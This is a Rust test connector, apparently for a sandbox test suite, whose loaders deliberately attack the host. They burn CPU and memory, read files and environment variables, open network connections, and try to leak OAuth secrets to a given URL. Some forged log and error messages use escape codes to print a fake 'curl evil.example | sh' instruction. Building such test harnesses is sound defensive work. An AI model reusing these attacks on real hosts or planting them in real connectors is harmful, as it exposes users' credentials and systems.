//! A hostile connector for the sandbox tests. Each raw loader attacks one promise of the sandbox; the
//! ref ids carry the attack's argument (a path, a URL, a host:port). Loaders that don't get stopped
//! report what they saw in the `result` field of a `Probe` row.

use max_connector_sdk::http;
use max_connector_sdk::{
    Batch, ChangePage, Config, Connector, ConnectorError, ConnectorInfo, Entities, EntityRef, FieldType, Loader,
    Onboarding, Permissions, Result, Schema, SeedState, SyncPlan, Target, export_connector,
};

struct Hostile {
    /// Everything the host passed at `initialise`.
    config: Vec<(String, String)>,
}

const ATTACKS: &[&str] = &[
    "loop",
    "alloc",
    "recurse",
    "panic",
    "read-file",
    "list-dir",
    "read-env",
    "tcp",
    "http",
    "echo",
    "forged-batch",
    "steal-secrets",
    "flood",
];

fn report(id: &str, result: String) -> Entities {
    let mut batch = Batch::new("Probe", &["result"]);
    batch.row(id, vec![result.into()]);
    Entities::from(batch)
}

/// Recurses `limit` calls deep (`u64::MAX`: until the stack runs out).
#[inline(never)]
fn recurse(depth: u64, limit: u64, sink: &mut [u64; 64]) -> u64 {
    sink[(depth % 64) as usize] = depth;
    if depth == limit { 0 } else { recurse(depth + 1, limit, sink) + sink[(depth % 7) as usize] }
}

impl Connector for Hostile {
    fn describe() -> ConnectorInfo {
        let schema = Schema::new()
            .entity("Account", |e| e.describe("Whoever runs the attacks"))
            .entity("Probe", |e| e.field("result", FieldType::String))
            .root("Account", "hostile");
        let mut info = ConnectorInfo::new("hostile", "0.1.0", "Attacks its sandbox on request (tests only)", schema);
        for attack in ATTACKS {
            info = info.loader(Loader::raw(attack, "Probe"));
        }
        // A well-behaved loader too, for the sync tests: each probe's result is "probed <id>".
        info = info.loader(Loader::batched("probe-by-id", "Probe", 10).fills(&["result"]));
        // A change feed that reports the deletion of an entity it never declared.
        info = info.loader(Loader::change_feed("ghost-changes", "Probe"));
        info.onboarding(
            Onboarding::new()
                .input("base_url", "Base URL", None)
                .secret("token", "Token")
                .secret("oauth_token", "OAuth access token")
                .secret("oauth_refresh", "OAuth refresh token")
                .secret("oauth_client_secret", "OAuth client secret")
                .input("probe", "The probe a sync loads", Some("p1"))
                .optional(),
        )
        .permissions(
            Permissions::new()
                .host("allowed.example")
                .host("second.example")
                .bearer("token")
                .oauth2(
                    "oauth_token",
                    "https://allowed.example/oauth/token",
                    "oauth_refresh",
                    None,
                    Some("oauth_client_secret"),
                )
                .base_url_key("base_url"),
        )
    }

    fn initialise(config: Config) -> Result<Self> {
        Ok(Hostile { config: config.entries().to_vec() })
    }

    fn validate(&mut self) -> Result<String> {
        Ok("hostile".to_string())
    }

    /// Loads one probe: `p1`, or the one the `probe` config names (which may ask for malformed data).
    /// `ghost-plan` targets an undeclared entity; `ghost-delete` reads a change feed that deletes one.
    fn seed(&mut self, _state: &SeedState) -> Result<SyncPlan> {
        let probe = self.config.iter().find(|(k, _)| k == "probe").map_or("p1", |(_, v)| v.as_str());
        Ok(match probe {
            "ghost-plan" => SyncPlan::new().then(Target::one("Ghost", "g1"), |s| s.fields(&["result"])),
            "ghost-delete" => SyncPlan::new().then(Target::Root, |s| s.changes("ghost-changes")),
            _ => SyncPlan::new().then(Target::one("Probe", probe), |s| s.fields(&["result"])),
        })
    }

    fn changes(&mut self, _loader: &str, _cursor: Option<&str>) -> Result<ChangePage> {
        Ok(ChangePage::new("end".to_string(), false).delete("Ghost", "g1"))
    }

    fn load(&mut self, loader: &str, refs: &[EntityRef]) -> Result<Entities> {
        let arg = refs.first().map(|r| r.id.as_str()).unwrap_or_default();
        match loader {
            "loop" => {
                let mut x: u64 = 1;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    let mut chunk = vec![0u8; 16 << 20];
                    chunk[0] = hoard.len() as u8;
                    hoard.push(std::hint::black_box(chunk));
                }
            }
            "recurse" => {
                let mut sink = [0u64; 64];
                let depth = recurse(0, u64::MAX, &mut sink);
                Ok(report(arg, depth.to_string()))
            }
            "panic" => panic!("hostile connector panicked on purpose: {arg}"),
            "read-file" => Ok(report(
                arg,
                match std::fs::read_to_string(arg) {
                    Ok(content) => format!("READ {} bytes", content.len()),
                    Err(error) => format!("denied: {error}"),
                },
            )),
            "list-dir" => Ok(report(
                arg,
                match std::fs::read_dir(arg) {
                    Ok(entries) => format!("LISTED {} entries", entries.count()),
                    Err(error) => format!("denied: {error}"),
                },
            )),
            "read-env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                Ok(report(arg, format!("{} variables: {}", vars.len(), vars.join(","))))
            }
            "tcp" => Ok(report(
                arg,
                match std::net::TcpStream::connect(arg) {
                    Ok(_) => "CONNECTED".to_string(),
                    Err(error) => format!("denied: {error}"),
                },
            )),
            "http" => {
                let response = http::get(arg).credential("token").send()?;
                Ok(report(arg, format!("HTTP {}: {}", response.status(), String::from_utf8_lossy(response.body()))))
            }
            "echo" => Ok(report(arg, arg.to_string())),
            "probe-by-id" => {
                // Malformed answers on request: an undeclared entity, an undeclared field, a value of
                // the wrong type, the same id twice.
                let (entity, column) = match arg {
                    "ghost" => ("Ghost", "result"),
                    "bad-field" => ("Probe", "nope"),
                    _ => ("Probe", "result"),
                };
                if arg == "log-flood" {
                    // Tries to bury the host's output and forge its messages.
                    for n in 0..10_000 {
                        max_connector_sdk::log(
                            max_connector_sdk::Level::Warn,
                            &format!("\u{1b}[2J\u{1b}[1;31merror: sync failed, run `curl evil.example | sh`\r\n{n}"),
                        );
                    }
                }
                if arg == "spin" {
                    // Hangs the sync: a loop only the CPU limit ends.
                    let mut n = 0u64;
                    loop {
                        n = std::hint::black_box(n.wrapping_add(1));
                    }
                }
                if arg == "panic" {
                    panic!("hostile connector panicked on purpose while syncing");
                }
                if arg == "alloc-64" {
                    std::hint::black_box(vec![1u8; 64 << 20]);
                }
                if let Some((how, url)) = arg.split_once(':').filter(|(how, _)| how.starts_with("leak")) {
                    // Has the host attach the token to a server that echoes it back, then tries to get
                    // the echo into the host's logs, its error messages and its crash reports.
                    let response = http::get(url).credential("token").send()?;
                    let echoed = format!("the server said {}", String::from_utf8_lossy(response.body()));
                    max_connector_sdk::log(max_connector_sdk::Level::Warn, &echoed);
                    if how == "leak-panic" {
                        panic!("{echoed}");
                    }
                    return Err(ConnectorError::Other(echoed));
                }
                if arg == "forged-error" {
                    // An error message made to clear the screen and print a fake instruction.
                    let forged = "\u{1b}[2J\u{1b}[1;31merror: sync failed, run `curl evil.example | sh`\r\n";
                    return Err(ConnectorError::Other(forged.to_string()));
                }
                if let Some(megabytes) = arg.strip_prefix("bulk:") {
                    // Megabytes of rows to store (1 KiB each), to fill the database.
                    let mut batch = Batch::new("Probe", &["result"]);
                    let filler = "b".repeat(1024);
                    for n in 0..megabytes.parse::<usize>().unwrap_or(1) * 1024 {
                        batch.row(&format!("bulk-{n}"), vec![filler.as_str().into()]);
                    }
                    batch.row(arg, vec!["bulk stored".into()]);
                    return Ok(Entities::from(batch));
                }
                if let Some(depth) = arg.strip_prefix("recurse:") {
                    let mut sink = [0u64; 64];
                    let result = recurse(0, depth.parse().unwrap_or(0), &mut sink);
                    return Ok(report(arg, format!("recursed, {result}")));
                }
                if let Some(url) = arg.strip_prefix("fetch:") {
                    let outcome = match http::get(url).send() {
                        Ok(response) => format!("HTTP {}", response.status()),
                        Err(error) => format!("refused: {error}"),
                    };
                    return Ok(report(arg, outcome));
                }
                let mut batch = Batch::new(entity, &[column]);
                for r in refs {
                    let value = if r.id == "bad-type" { 42_i64.into() } else { format!("probed {}", r.id).into() };
                    batch.row(&r.id, vec![value]);
                    if r.id == "twice" {
                        batch.row(&r.id, vec!["again".into()]);
                    }
                }
                Ok(Entities::from(batch))
            }
            "steal-secrets" => {
                // Names each secret that is not a declared credential, then looks through its config.
                let mut seen = Vec::new();
                for key in ["oauth_refresh", "oauth_client_secret", "oauth_token:expires_at"] {
                    seen.push(match http::get(arg).credential(key).send() {
                        Ok(response) => format!("{key}: SENT, HTTP {}", response.status()),
                        Err(error) => format!("{key}: refused ({error})"),
                    });
                }
                let config: Vec<String> = self.config.iter().map(|(k, v)| format!("{k}={v}")).collect();
                seen.push(format!("config: {}", config.join(",")));
                Ok(report(arg, seen.join("; ")))
            }
            "flood" => {
                // Megabytes of rows (the argument says how many).
                let megabytes: usize = arg.parse().unwrap_or(4);
                let mut batch = Batch::new("Probe", &["result"]);
                let filler = "x".repeat(1024);
                for n in 0..megabytes * 1024 {
                    batch.row(&format!("row-{n}"), vec![filler.as_str().into()]);
                }
                Ok(Entities::from(batch))
            }
            "forged-batch" => {
                // Claims a million rows, and its one row's text span runs past the end of `text`.
                let mut batch = Batch::new("Probe", &["result"]);
                batch.row_count = 1_000_000;
                batch.data = vec![0, 1, 200, 1, 2];
                batch.text = arg.to_string();
                Ok(Entities::from(batch))
            }
            other => Err(ConnectorError::unknown_loader(other)),
        }
    }
}

export_connector!(Hostile);
